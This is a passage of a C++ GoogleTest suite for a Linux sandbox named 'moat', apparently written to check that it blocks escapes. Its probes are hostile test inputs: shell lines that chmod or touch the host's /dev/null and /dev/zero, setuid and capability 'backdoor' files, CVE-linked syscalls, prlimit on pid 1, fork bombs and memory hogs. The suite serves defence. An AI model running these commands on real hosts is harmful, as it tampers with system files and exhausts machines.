                           "echo data > /dev/null && echo wrote; chmod 0600 /dev/null; "
                           "chmod 0600 /dev/zero; touch -d 2001-01-01 /dev/zero; true"});
  struct stat after_null {
  }, after_zero{};
  ASSERT_EQ(stat("/dev/null", &after_null), 0);
  ASSERT_EQ(stat("/dev/zero", &after_zero), 0);
  const bool changed = after_null.st_mode != before_null.st_mode ||
                       after_zero.st_mode != before_zero.st_mode ||
                       after_zero.st_mtim.tv_sec != before_zero.st_mtim.tv_sec;
  if (changed && as_root()) {  // repair the host before failing
    (void)chmod("/dev/null", before_null.st_mode & 07777);
    (void)chmod("/dev/zero", before_zero.st_mode & 07777);
    const timespec times[2] = {before_zero.st_atim, before_zero.st_mtim};
    (void)utimensat(AT_FDCWD, "/dev/zero", times, 0);
  }
  EXPECT_FALSE(changed) << "ESCAPE: the sandbox changed the host's /dev/null or /dev/zero\n"
                        << r.describe();
  EXPECT_NE(r.out.find("wrote"), std::string::npos) << "/dev/null must stay writable\n"
                                                    << r.describe();
}

// Guards: a setuid / file-capability backdoor planted in the project for the host to run later
// (setuid backdoors; CVE-2023-0386-style capability smuggling; CVE-2021-22555-class follow-ups). As
// root inside a user namespace mapped to host root, such a file would be a host root backdoor.
TEST_P(Escape, CreateSetuidOrCapabilityFile) {
  std::string created = sb().in_project("backdoor");
  std::string existing = sb().in_project("tool");
  sb().write_file(existing, "#!/bin/sh\n", 0755);

  RunResult c = attack(Sandbox::probe({"create-suid", created}));
  RunResult m = attack(Sandbox::probe({"chmod-suid", existing}));
  RunResult x = attack(Sandbox::probe({"setcap", existing}));
  RunResult g = sb().moat({"/bin/chmod", "u+s,g+s", existing});

  struct stat st{};
  if (stat(created.c_str(), &st) == 0) {
    EXPECT_EQ(st.st_mode & (S_ISUID | S_ISGID), 0u) << "setuid file created\n" << c.describe();
  }
  ASSERT_EQ(stat(existing.c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & (S_ISUID | S_ISGID), 0u) << m.describe() << g.describe();
  char buf[64];
  EXPECT_LT(getxattr(existing.c_str(), "security.capability", buf, sizeof buf), 0)
      << "file capability set\n" << x.describe();
  expect_refused(m, "EPERM", "chmod 04755");
  // EOPNOTSUPP on purpose: tar and cp -a treat it as "no xattrs here" and go on.
  expect_refused(x, "EOPNOTSUPP", "setxattr security.capability");

  std::filesystem::remove(created);
  RunResult control = sb().direct(Sandbox::probe({"chmod-suid", existing}));
  expect_control_ok(control, "chmod 04755 in the project");
  if (as_root()) expect_control_ok(sb().direct(Sandbox::probe({"setcap", existing})), "setcap");
}

// Guards: capabilities or privileges left to the command (CVE-2022-0492 cgroup release_agent needed
// CAP_SYS_ADMIN; anything that regains caps through exec).
TEST_P(Escape, CapabilitiesDropped) {
  RunResult r = attack(Sandbox::probe({"caps"}));
  ASSERT_TRUE(r.probe_ok()) << r.describe();
  for (const char* k : {"CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"}) {
    EXPECT_NE(r.out.find(std::string(k) + "=0000000000000000"), std::string::npos) << k << "\n" << r.describe();
  }
  EXPECT_NE(r.out.find("NoNewPrivs=1"), std::string::npos) << r.describe();
  EXPECT_NE(r.out.find("Seccomp=2"), std::string::npos) << r.describe();
}

// --- Kernel attack surface (seccomp) ------------------------------------------------------------

struct SyscallAttack {
  const char* verb;
  const char* guards;
  bool control_as_user;  // does the unconfined control succeed as an unprivileged user?
};

// Guards: new user namespaces (CVE-2022-0185 fsconfig, CVE-2023-32233 nf_tables, CVE-2024-1086: all
// reached through unprivileged userns), mount (CVE-2022-0492), bpf (CVE-2021-3490, CVE-2023-2163),
// perf_event_open (CVE-2023-2235, CVE-2022-1729), keyctl (CVE-2016-0728), userfaultfd (race widening in
// CVE-2021-22555 / CVE-2022-0847 exploits), io_uring (CVE-2022-29582, CVE-2023-2598; and io_uring ops
// bypass seccomp, KERNEL.md).
TEST_P(Escape, DeniedSyscalls) {
  const SyscallAttack attacks[] = {
      {"unshare-user", "unshare(CLONE_NEWUSER)", true},
      {"clone-user", "clone(CLONE_NEWUSER)", true},
      {"mount", "mount(tmpfs)", false},
      {"bpf", "bpf(BPF_MAP_CREATE)", false},
      {"perf", "perf_event_open", true},
      {"keyctl", "add_key/keyctl", true},
      {"userfaultfd", "userfaultfd", true},
      {"io-uring", "io_uring_setup", true},
  };
  for (const auto& a : attacks) {
    SCOPED_TRACE(a.verb);
    RunResult r = attack(Sandbox::probe({a.verb}));
    expect_refused(r, "EPERM", a.guards);
    if (as_root() || a.control_as_user) {
      expect_control_ok(sb().direct(Sandbox::probe({a.verb})), a.guards);
    }
  }
  // clone3 cannot be filtered on its flags (they are behind a pointer): it must fail as a whole.
  RunResult c3 = attack(Sandbox::probe({"clone3-user"}));
  EXPECT_FALSE(c3.probe_ok()) << "clone3(CLONE_NEWUSER) succeeded\n" << c3.describe();
  EXPECT_NE(c3.probe_line(), "") << c3.describe();
}

// Guards: 32-bit syscall ABI bypassing an x86_64-only filter (CVE-2009-0835-class; the reason
// libseccomp kills foreign arches).
TEST_P(Escape, I386SyscallKilled) {
  RunResult r = sb().moat(Sandbox::probe({"i386-syscall"}));
  EXPECT_FALSE(r.probe_ok()) << "int 0x80 executed\n" << r.describe();
  EXPECT_EQ(r.status, 128 + SIGSYS) << r.describe();
  expect_control_ok(sb().direct(Sandbox::probe({"i386-syscall"})), "int 0x80 getpid");
  // x32 (nr | 0x40000000): this kernel may lack CONFIG_X86_X32_ABI (ENOSYS unconfined); under moat it
  // must be killed like i386 and never report OK.
  RunResult x32 = sb().moat(Sandbox::probe({"x32-syscall"}));
  EXPECT_FALSE(x32.probe_ok()) << x32.describe();
  EXPECT_EQ(x32.status, 128 + SIGSYS) << x32.describe();
}

// Guards: host IPC objects reachable from the sandbox (SysV shared memory: X11 MIT-SHM leaks, IPC
// exfiltration channels; POSIX shm in /dev/shm shared with the host).
TEST_P(Escape, HostSharedMemory) {
  std::string canary = sb().canary("shm");
  key_t key = static_cast<key_t>(0x6d000000 | (std::hash<std::string>{}(sb().tag()) & 0xffffff));
  int id = shmget(key, 4096, IPC_CREAT | IPC_EXCL | 0666);
  if (id < 0) MOAT_SKIP_OR_FAIL(std::string("shmget: ") + strerror(errno));
  void* p = shmat(id, nullptr, 0);
  ASSERT_NE(p, reinterpret_cast<void*>(-1));
  memcpy(p, canary.c_str(), canary.size() + 1);
  std::string posix = "/dev/shm/moat-test-" + sb().tag();
  sb().write_file(posix, canary);
  sb().remove_at_exit(posix);

  RunResult r = attack(Sandbox::probe({"shm-read", std::to_string(key)}));
  expect_no_canary(r, canary, "SysV shm of the host");
  RunResult r2 = attack(Sandbox::probe({"read", posix}));
  expect_no_canary(r2, canary, "/dev/shm of the host");
  RunResult control = sb().direct(Sandbox::probe({"shm-read", std::to_string(key)}));
  EXPECT_NE(control.out.find(canary), std::string::npos) << "CONTROL\n" << control.describe();
  shmdt(p);
  shmctl(id, IPC_RMID, nullptr);
}

// --- Leftovers and exhaustion -------------------------------------------------------------------

int64_t file_size(const std::string& p) {
  struct stat st{};
  return stat(p.c_str(), &st) == 0 ? st.st_size : -1;
}

// Guards: double-forked daemons outliving the install (the ua-parser-js cryptominer, Linux npm
// implants that detach with setsid/nohup).
// pid 1 (moat's reaper) runs as the command's uid: with prlimit(2) the command could lower its
// limits, RLIMIT_NOFILE so it cannot read /proc and the account loses the processes left
// running, or RLIMIT_CPU so it dies and the command's status with it. Refused; the leftover is
// still named.
TEST_P(Escape, ReaperLimitsCannotBeChanged) {
  RunResult r = sb().moat({"/bin/sh", "-c",
                           "prlimit --pid 1 --nofile=0:0 --cpu=1:1 && echo CHANGED; "
                           "(setsid sleep 1000 &); exit 3"});
  EXPECT_EQ(r.status, 3) << r.describe();
  EXPECT_EQ(r.out.find("CHANGED"), std::string::npos) << "pid 1's limits changed\n" << r.describe();
  EXPECT_NE(r.err.find("still running at exit, killed"), std::string::npos) << r.describe();
}

TEST_P(Escape, DaemonKilledAtExit) {
  std::string hb = sb().in_project("heartbeat");
  RunResult r = attack(Sandbox::probe({"daemon", hb, sb().tag()}));
  EXPECT_TRUE(r.probe_ok()) << "daemon did not start inside\n" << r.describe();
  EXPECT_LT(r.seconds, 10) << r.describe();
  std::this_thread::sleep_for(std::chrono::milliseconds(400));
  int64_t s1 = file_size(hb);
  std::this_thread::sleep_for(std::chrono::milliseconds(800));
  int64_t s2 = file_size(hb);
  EXPECT_GT(s1, 0) << "no heartbeat at all\n" << r.describe();
  EXPECT_EQ(s1, s2) << "the daemon still beats after moat returned";

  std::string hb2 = sb().in_project("heartbeat-control");
  RunResult control = sb().direct(Sandbox::probe({"daemon", hb2, sb().tag()}));
  expect_control_ok(control, "daemon");
  std::this_thread::sleep_for(std::chrono::milliseconds(300));
  int64_t c1 = file_size(hb2);
  std::this_thread::sleep_for(std::chrono::milliseconds(500));
  EXPECT_GT(file_size(hb2), c1) << "CONTROL: the unconfined daemon does not beat";
}

// Guards: runaway commands (`--timeout` must kill the whole tree, not only the direct child).
// The user must be able to stop a run: a command that stops itself (SIGSTOP) or ignores the
// stop signals must not make moat unstoppable short of SIGKILL (which leaves its placeholders in
// the project). The first signal is forwarded with SIGCONT; a second one kills every process.
TEST_P(Escape, StoppedOrDeafCommandCannotOutlastTheUser) {
  std::string hb = sb().in_project("heartbeat");
  for (const std::string& command :
       {std::string("kill -STOP $$"), "trap '' INT TERM HUP QUIT; ./moat-probe daemon " + hb + " " +
                                          sb().tag() + "; sleep 100"}) {
    RunSpec spec;
    spec.timeout_s = 20;
    spec.argv = {"/bin/sh", "-c",
                 // SIGTERM: a background job of a non-interactive shell ignores SIGINT (and the
                 // command would inherit that); a terminal's Ctrl-C takes the same path.
                 "\"$0\" run -- /bin/sh -c \"$1\" & p=$!; sleep 1; kill -TERM $p; sleep 1; "
                 "kill -TERM $p; wait $p; echo rc=$?",
                 moat_binary(), command};
    RunResult r = sb().run(spec);
    EXPECT_NE(r.out.find("rc=143"), std::string::npos) << command << "\n" << r.describe();
    EXPECT_LT(r.seconds, 8) << command << "\n" << r.describe();
  }
  std::this_thread::sleep_for(std::chrono::milliseconds(400));
  int64_t s1 = file_size(hb);
  std::this_thread::sleep_for(std::chrono::milliseconds(800));
  EXPECT_EQ(file_size(hb), s1) << "a process of the stopped run survives";
}

TEST_P(Escape, TimeoutKillsTree) {
  std::string hb = sb().in_project("heartbeat");
  RunSpec spec;
  spec.timeout_s = 15;
  RunResult r = attack({"/bin/sh", "-c", "./moat-probe daemon " + hb + " " + sb().tag() + "; sleep 100"},
                          {"--timeout", "2"}, spec);
  EXPECT_LT(r.seconds, 10) << r.describe();
  EXPECT_NE(r.status, 0) << r.describe();
  std::this_thread::sleep_for(std::chrono::milliseconds(400));
  int64_t s1 = file_size(hb);
  std::this_thread::sleep_for(std::chrono::milliseconds(800));
  EXPECT_EQ(file_size(hb), s1) << "a process of the timed-out run survives";
}

RunSpec long_run() {
  RunSpec spec;
  spec.timeout_s = 30;
  return spec;
}

std::string write_limits_profile(Sandbox& sb, bool with_memory = true) {
  std::string path = sb.base() + "/limits.yaml";
  sb.write_file(path, std::string("version: 1\n"
                                  "extends: [base]\n"
                                  "limits:\n"
                                  "  processes: 64\n") +
                          (with_memory ? "  memory: 256MiB\n" : ""));
  return path;
}

// Guards: fork bombs from install scripts (host exhaustion; the pids controller).
// As root the pids cgroup holds it; unprivileged, RLIMIT_NPROC counted in the sandbox's own user
// namespace (only its processes count).
TEST_P(Escape, ForkBombLimited) {
  std::string profile = write_limits_profile(sb(), /*with_memory=*/as_root());
  auto t0 = std::chrono::steady_clock::now();
  RunResult r = attack(Sandbox::probe({"fork-bomb", "3"}), {"-p", profile}, long_run());
  EXPECT_NE(r.status, 125) << "limits profile rejected\n" << r.describe();
  EXPECT_FALSE(r.probe_ok()) << "2000 forks went through a 64-process limit\n" << r.describe();
  EXPECT_LT(std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count(), 20);
  // The host can still fork.
  EXPECT_EQ(sb().direct({"/bin/true"}).status, 0);
}

// Guards: memory exhaustion of the host by a hostile build (the memory controller; OOM in the
// sandbox, not on the host).
TEST_P(Escape, MemoryHogLimited) {
  std::string profile = write_limits_profile(sb());
  if (!as_root()) {
    // Fail closed: unprivileged, a memory limit has no cgroup to live in, so nothing starts.
    RunResult r = sb().moat(Sandbox::probe({"create", "started"}), {"-p", profile});
    EXPECT_EQ(r.status, 125) << r.describe();
    EXPECT_NE(r.err.find("limits.memory"), std::string::npos) << r.describe();
    EXPECT_FALSE(exists(sb().in_project("started"))) << r.describe();
    return;
  }
  RunResult r = sb().moat(Sandbox::probe({"mem-hog", "1024"}), {"-p", profile}, long_run());
  EXPECT_NE(r.status, 125) << "limits profile rejected\n" << r.describe();
  EXPECT_FALSE(r.probe_ok()) << "1 GiB touched under a 256 MiB limit\n" << r.describe();
  EXPECT_TRUE(r.status == 128 + SIGKILL || r.probe_errno() == "ENOMEM") << r.describe();
  EXPECT_LT(r.seconds, 20);
  expect_control_ok(sb().direct(Sandbox::probe({"mem-hog", "64"})), "mem-hog 64 MiB");
}

// Guards: nothing of a run outlives it on the host, cgroups included: as root each run makes
// moat-PID cgroups (v2, v1 pids/memory) and removes them after pid 1 is reaped; a moat killed
// with SIGKILL leaves empty ones, which the next run removes (checked from outside).
TEST_P(RootEscape, CgroupsRemovedAfterTheRunAndStaleOnesCleared) {
  pid_t dead = ::fork();
  if (dead == 0) _exit(0);
  ::waitpid(dead, nullptr, 0);
  std::vector<std::string> stale;
  for (const char* root : {"/sys/fs/cgroup/unified", "/sys/fs/cgroup/pids", "/sys/fs/cgroup"}) {
    if (!exists(std::string(root) + "/cgroup.procs")) continue;
    std::string dir = std::string(root) + "/moat-" + std::to_string(dead);
    if (::mkdir(dir.c_str(), 0755) == 0) stale.push_back(dir);
  }
  ASSERT_FALSE(stale.empty()) << "no cgroup hierarchy to test in";
  std::string profile = write_limits_profile(sb(), /*with_memory=*/true);
  RunResult r = sb().moat({"/bin/sh", "-c", "cat /proc/self/cgroup"}, {"-p", profile});
  EXPECT_EQ(r.status, 0) << r.describe();
  for (const std::string& dir : stale) {
    EXPECT_FALSE(exists(dir)) << dir << " (its moat is gone) was left behind";
    ::rmdir(dir.c_str());
  }
  // Every moat-PID cgroup left belongs to a live moat (tests run in parallel).
  for (const char* root : {"/sys/fs/cgroup/unified", "/sys/fs/cgroup/pids", "/sys/fs/cgroup/memory",
                           "/sys/fs/cgroup"}) {
    std::error_code ec;
    for (const auto& entry : std::filesystem::directory_iterator(root, ec)) {
      const std::string name = entry.path().filename();
      if (name.rfind("moat-", 0) != 0 || name == "moat-sandboxd") continue;
      pid_t owner = static_cast<pid_t>(std::atoi(name.c_str() + 5));
      EXPECT_TRUE(owner > 0 && (::kill(owner, 0) == 0 || errno != ESRCH))
          << entry.path() << " outlived its moat";
    }
  }
}

INSTANTIATE_TEST_SUITE_P(Identities, Escape, ::testing::Values(Identity::kRoot, Identity::kUser),
                         IdentityName());
INSTANTIATE_TEST_SUITE_P(Identities, RootEscape, ::testing::Values(Identity::kRoot), IdentityName());

}  // namespace
}  // namespace moat::testing

namespace moat::testing {
namespace {

// Guards: in tier landlock there is no mount namespace, so a host service's unix socket is
// reachable by its path and Landlock does not govern connecting to it: unix sockets are refused
// there (socketpair still works).
// Tier landlock as root: no user namespace, so the command's uid 0 owns the host's system files,
// and Landlock does not govern chmod (`chmod 0666 /etc/shadow` would need nothing else). Every
// chmod-family call is performed by the supervisor inside the write paths and refused
// elsewhere, by path, by descriptor and through a symlink in the project.
TEST_P(RootEscape, ModesOutsideTheWritePathsInTierLandlock) {
  const std::string outside = sb().in_outside("host-file");
  sb().write_file(outside, "x", 0600);
  ASSERT_EQ(chown(outside.c_str(), 0, 0), 0);
  sb().write_file(sb().in_project("mine"), "#!/bin/sh\n", 0600);
  ASSERT_EQ(symlink(outside.c_str(), sb().in_project("link").c_str()), 0);
  // By descriptor: a file the sandbox may read (and so open), set to the mode it has already,
  // so that the host's file is unharmed even if the call went through.
  struct stat etc {};
  ASSERT_EQ(stat("/etc/hostname", &etc), 0);
  char etc_mode[8];
  std::snprintf(etc_mode, sizeof etc_mode, "0o%o", etc.st_mode & 07777);
  RunResult r = sb().moat({"python3", "-c",
                           "import os\n"
                           "def t(what, f):\n"
                           "    try: f(); print(what, 'changed')\n"
                           "    except OSError as e: print(what, 'refused', e.errno)\n"
                           "t('path', lambda: os.chmod('" +
                               outside +
                               "', 0o666))\n"
                               "t('link', lambda: os.chmod('link', 0o666))\n"
                               "fd = os.open('/etc/hostname', os.O_RDONLY)\n"
                               "t('fd', lambda: os.fchmod(fd, " +
                               std::string(etc_mode) +
                               "))\n"
                               "t('project', lambda: os.chmod('mine', 0o755))\n"
                               "t('times', lambda: os.utime('" +
                               outside +
                               "', (1, 1)))\n"
                               "t('times-now', lambda: os.utime('" +
                               outside +
                               "'))\n"
                               "t('times-link', lambda: os.utime('link', (1, 1)))\n"
                               "t('project-times', lambda: os.utime('mine', (7, 7)))\n"},
                          {"--tier", "landlock", "--allow-degraded"});
  EXPECT_NE(r.out.find("path refused 1"), std::string::npos) << r.describe();
  EXPECT_NE(r.out.find("link refused 1"), std::string::npos) << r.describe();
  EXPECT_NE(r.out.find("fd refused 1"), std::string::npos) << r.describe();
  EXPECT_NE(r.out.find("project changed"), std::string::npos) << r.describe();
  EXPECT_NE(r.out.find("times refused 1"), std::string::npos) << r.describe();
  EXPECT_NE(r.out.find("times-now refused 1"), std::string::npos) << r.describe();
  EXPECT_NE(r.out.find("times-link refused 1"), std::string::npos) << r.describe();
  EXPECT_NE(r.out.find("project-times changed"), std::string::npos) << r.describe();
  struct stat st {};
  ASSERT_EQ(stat(outside.c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 07777, 0600u) << "ESCAPE: the host file's mode changed\n" << r.describe();
  EXPECT_GT(st.st_mtime, 1000) << "ESCAPE: the host file's times changed\n" << r.describe();
  ASSERT_EQ(stat(sb().in_project("mine").c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 07777, 0755u) << "the project's own file must stay changeable";
  EXPECT_EQ(st.st_mtime, 7) << "the project's own file's times must stay changeable";
}

TEST_P(Escape, HostUnixSocketsInTierLandlock) {
  std::string out_path = sb().in_outside("agent-ll.sock");
  UnixListener listener(out_path, "", sb().uid(), sb().gid());
  ASSERT_TRUE(listener.ok());
  RunResult r = sb().moat(Sandbox::probe({"connect-unix", out_path}), {"--tier", "landlock"});
  EXPECT_EQ(listener.accepted(), 0) << r.describe();
  EXPECT_FALSE(r.probe_ok()) << r.describe();
  RunResult pair = sb().moat({"python3", "-c", "import socket; a, b = socket.socketpair(); "
                                               "a.send(b'x'); print(b.recv(1).decode())"},
                             {"--tier", "landlock"});
  EXPECT_EQ(pair.status, 0) << pair.describe();
  EXPECT_EQ(pair.out, "x\n") << pair.describe();
  int before = listener.accepted();
  expect_control_ok(sb().direct(Sandbox::probe({"connect-unix", out_path})), "connect socket");
  EXPECT_EQ(listener.accepted(), before + 1) << "CONTROL: listener saw nothing";
}

}  // namespace
}  // namespace moat::testing
